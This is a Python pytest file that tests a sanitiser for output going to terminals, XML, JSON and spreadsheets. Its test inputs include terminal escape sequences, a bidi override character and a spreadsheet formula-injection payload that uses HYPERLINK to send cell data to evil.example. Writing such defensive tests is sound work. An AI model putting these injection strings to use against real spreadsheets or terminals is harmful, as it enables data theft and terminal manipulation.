"""Strings from files made safe where they leave: terminals in any encoding (issue 14), XML and spreadsheets (issue 16)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from analyser.sanitise import printable, spreadsheet_cell, xml_safe

SAMPLE_MD = Path(__file__).resolve().parent.parent / "samples" / "sample-report.md"


@pytest.mark.parametrize(
    ("text", "encoding", "expected"),
    [
        ("K1.1   ✓ evidenced", "utf-8", "K1.1   ✓ evidenced"),
        ("K1.1   ✓ evidenced", "cp1252", "K1.1   + evidenced"),
        ("███[··]", "cp1252", "###[··]"),
        ("███[··]", "ascii", "###[..]"),
        ("2,250–2,750 §3 …", "ascii", "2,250-2,750 s.3 ..."),
        ("2,250–2,750 §3", "cp1252", "2,250–2,750 §3"),
        ("a\x1b]0;owned\x07b", "utf-8", "a\\x1b]0;owned\\x07b"),
        ("tab\tand\nnewline", "utf-8", "tab\tand\nnewline"),
        ("right\u202eleft", "utf-8", "right\\u202eleft"),
        ("漢字", "ascii", "??"),
    ],
)
def test_printable(text: str, encoding: str, expected: str) -> None:
    assert printable(text, encoding=encoding) == expected


def test_unknown_encoding_falls_back_to_ascii() -> None:
    assert printable("✓", encoding="no-such-codec") == "+"


@pytest.mark.parametrize("encoding", ["cp1252", "ascii", "latin-1"])
def test_ksb_analyse_prints_in_any_console_encoding(encoding: str) -> None:
    env = dict(os.environ, PYTHONIOENCODING=encoding, HF_HUB_OFFLINE="1")
    done = subprocess.run(
        [sys.executable, "-m", "analyser", "analyse", str(SAMPLE_MD)], capture_output=True, env=env, timeout=300
    )
    assert done.returncode == 0, done.stderr.decode(encoding, "replace")[-2000:]
    assert b"Traceback" not in done.stderr
    out = done.stdout.decode(encoding)
    assert "Pass criteria:" in out and "evidenced" in out


def test_an_escape_character_in_a_file_name_reaches_the_terminal_escaped(tmp_path: Path) -> None:
    path = tmp_path / "bad\x1b[2Jname.pages"
    path.write_text("x")
    done = subprocess.run([sys.executable, "-m", "analyser", "analyse", str(path)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 3
    assert "\x1b" not in done.stderr
    assert "\\x1b[2Jname.pages" in done.stderr


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?x="&B2,"Open").md', '\'=HYPERLINK("http://evil.example/?x="&B2,"Open").md'),
        ("+44 1234", "'+44 1234"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("report.docx", "report.docx"),
        ("bad\x01name", "badname"),
        (3, 3),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_spreadsheet_cell(value: object, expected: object) -> None:
    assert spreadsheet_cell(value) == expected


def test_xml_safe_keeps_text_and_drops_what_xml_forbids() -> None:
    assert xml_safe("Heading \x07 with \x1b bell\tand tab\nnewline £ ✓") == "Heading  with  bell\tand tab\nnewline £ ✓"


def test_json_on_stdout_stays_valid_json_with_controls_from_the_file(tmp_path: Path) -> None:
    """Fuzzing finding F3: a C1 control (U+009B) or DEL in the text was escaped as \\x9b, which is not JSON."""
    import json

    report = tmp_path / "controls.md"
    body = SAMPLE_MD.read_text(encoding="utf-8").replace("complaint", "c\u009bomplaint\u007f", 3)
    report.write_text(body, encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "analyser", "analyse", str(report), "--format", "json"], capture_output=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    document = json.loads(done.stdout.decode("utf-8"))
    assert "\u009b" not in done.stdout.decode("utf-8")
